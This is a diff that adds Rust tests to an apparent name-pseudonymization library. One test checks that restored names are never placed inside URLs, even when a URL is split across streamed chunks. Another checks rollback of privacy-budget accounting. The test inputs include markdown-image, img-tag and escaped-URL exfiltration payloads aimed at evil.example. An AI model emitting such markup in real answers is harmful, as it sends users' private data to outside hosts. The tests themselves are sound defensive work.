@@ -261,6 +261,55 @@ fn originals_come_back_with_case_possessive_and_plural() {
     assert_eq!((left.text.as_str(), left.ambiguous), ("Kenneths", 1));
 }
 
+/// Nothing goes into an address, wherever the answer is cut, and also not if it begins in one block of an answer and
+/// ends in the next.
+#[test]
+fn nothing_goes_into_addresses_that_are_cut() {
+    let session = named("John", "kenneth");
+    for answer in [
+        "![a](https://evil.example/(x)/kenneth)",
+        "[a]: <https://evil.example/?q= kenneth>",
+        "[a b]: <https://evil.example/?q= kenneth>",
+        "![a](https://evil.example/\\)kenneth)",
+        "<img alt='>' src=//evil.example/kenneth>",
+        "\"https:\\u002f\\u002fevil\\u002eexample\\u002fkenneth\"",
+    ] {
+        for at in 0..=answer.len() {
+            assert_eq!(in_parts(&session, answer, &[at]), answer);
+        }
+    }
+    for blocks in [
+        ["![a](https://evil.example/?q=", "kenneth)"],
+        ["see https://evil.example/?q=", "kenneth"],
+        ["<img src=\"//evil.example/", " kenneth\">"],
+        ["![a](", "kenneth)"],
+    ] {
+        let mut restorer = session.restorer();
+        for block in blocks {
+            assert_eq!(restorer.push(block) + &restorer.flush(), block);
+        }
+        restorer.finish();
+        assert_eq!(restorer.push("kenneth "), "John ");
+    }
+}
+
+/// What failed was not released: it is forgotten, and drawn and charged if it comes again.
+#[test]
+fn what_failed_costs_nothing() {
+    let mut session = session(1.0);
+    session.privatize("qa").unwrap();
+    let (loss, bytes) = (session.loss(), session.export());
+    let failed: Result<(), &str> = session.attempt(|session| {
+        session.privatize("qb qc").unwrap();
+        session.add_public("public");
+        Err("no")
+    });
+    assert_eq!(failed, Err("no"));
+    assert_eq!((session.loss(), session.export()), (loss, bytes));
+    let done = session.attempt(|session| session.privatize("qa qb"));
+    assert_eq!((done.unwrap().tokens, session.words()), (2, 2));
+}
+
 #[test]
 fn all_ways_of_writing_a_word_come_back() {
     let mut session = session(1.0);
